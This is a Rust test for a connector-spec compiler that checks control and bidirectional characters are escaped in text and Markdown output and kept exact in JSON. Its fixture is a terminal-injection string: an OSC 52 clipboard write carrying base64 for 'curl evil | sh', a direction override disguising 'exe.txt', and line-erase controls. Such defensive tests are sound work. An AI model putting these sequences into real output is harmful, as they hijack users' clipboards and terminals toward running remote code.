//! Control and bidirectional characters that reach a compiled output (from any text of a
//! spec or an instance value) are shown as escapes in the text and Markdown forms of every
//! target, and kept exact, JSON-escaped, in the JSON form. The lint rule M009 refuses them
//! before compile; this holds when the rule is turned off, and for instance values.

use connspec_compile::{Format, InstanceInput, Overrides, SpecInput, Target, compile, output};
use connspec_diagnostics::SourceFile;
use connspec_diagnostics::terminal::is_unsafe;
use connspec_model::{CheckOptions, DocumentKind, check_source};
use serde_json::Value;

/// Erase the line, write the clipboard (OSC 52, BEL-terminated), return the carriage,
/// override the direction, a C1 control sequence introducer and DEL.
const HOSTILE: &str =
    "safe\u{1b}[2K\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\r\u{202e}exe.txt\u{2066}\u{9b}31m\u{7f}";

fn spec() -> String {
    // JSON is YAML: `serde_json` writes every character with the escapes YAML reads back.
    let text = |suffix: &str| Value::String(format!("{HOSTILE}{suffix}"));
    serde_json::json!({
        "spec_version": 1,
        "name": "hostile",
        "display_name": text(" display"),
        "description": text(" connector"),
        "instance": { "region": { "description": text(" region"), "example": "eu" } },
        "base_url": "https://api.example.com",
        "auth": { "type": "none" },
        "actions": {
            "list_items": {
                "description": text(" action"),
                "method": "POST",
                "path": "/items",
                "headers": { "Accept": "application/json", "X-Note": text(" header") },
                "query": { "q": text(" query"), "region": "{{ instance.region }}" },
                "body": { "note": text(" body") },
                "inputs": { "who": { "type": "string", "description": text(" input"), "example": text(" example") } }
            }
        }
    })
    .to_string()
    .chars()
    // YAML forbids C1 controls raw in a file: write every unsafe character as a JSON escape,
    // which YAML reads back in double-quoted strings.
    .map(|c| {
        if is_unsafe(c) && u32::from(c) >= 0x7f {
            format!("\\u{:04x}", u32::from(c))
        } else {
            c.to_string()
        }
    })
    .collect()
}

#[test]
fn every_target_escapes_controls_in_text_and_markdown_and_keeps_json_exact() {
    let spec_file = SourceFile::new("spec.yaml", spec());
    let instance_text = format!(
        "instance_version: 1\nvalues: {{ region: {} }}\n",
        serde_json::to_string(&format!("eu{HOSTILE}"))
            .expect("json")
            .chars()
            .map(|c| if is_unsafe(c) && u32::from(c) >= 0x7f {
                format!("\\u{:04x}", u32::from(c))
            } else {
                c.to_string()
            })
            .collect::<String>()
    );
    let instance_file = SourceFile::new("instance.yaml", instance_text);
    let options = |kind| CheckOptions {
        kind: Some(kind),
        ..CheckOptions::default()
    };
    let spec = check_source(&spec_file, &options(DocumentKind::Connector));
    assert!(!spec.has_errors(), "{:?}", spec.diagnostics);
    let instance = check_source(&instance_file, &options(DocumentKind::Instance));
    assert!(!instance.has_errors(), "{:?}", instance.diagnostics);
    let compiled = compile(
        SpecInput {
            file: &spec_file,
            document: spec.document.as_ref().expect("document"),
            spec: spec.spec.as_ref().expect("spec"),
        },
        InstanceInput {
            file: &instance_file,
            document: instance.document.as_ref().expect("document"),
            instance: instance.instance.as_ref().expect("instance"),
        },
        &Target::ALL,
        &Overrides::default(),
    );
    assert_eq!(
        compiled.outputs.len(),
        Target::ALL.len(),
        "{:?}",
        compiled.diagnostics
    );

    let mut escapes_seen = 0;
    for one in &compiled.outputs {
        let what = one.target.as_str();
        for format in [Format::Text, Format::Markdown] {
            let shown = output::render(format, std::slice::from_ref(one));
            if let Some(c) = shown.chars().find(|c| is_unsafe(*c)) {
                panic!("{what} {format:?} prints {c:?} raw:\n{shown}");
            }
            escapes_seen += shown.matches("\\u{1b}").count();
        }
        let json = output::render(Format::Json, std::slice::from_ref(one));
        if let Some(c) = json.chars().find(|c| is_unsafe(*c)) {
            panic!("{what} JSON prints {c:?} raw:\n{json}");
        }
        let parsed: Value = serde_json::from_str(&json).expect("JSON");
        if one.target == Target::AgentStudio {
            // Exact strings: the action description comes back byte for byte.
            assert!(
                parsed.to_string().contains(
                    &serde_json::to_string(&format!("{HOSTILE} action"))
                        .expect("json")
                        .trim_matches('"')
                        .to_owned()
                ),
                "{json}"
            );
        }
    }
    assert!(escapes_seen > 0, "no escape shown: was the text dropped?");
    // Several outputs in one document, headed by the instance name.
    let all = output::render(Format::Text, &compiled.outputs);
    assert!(!all.chars().any(is_unsafe));
}
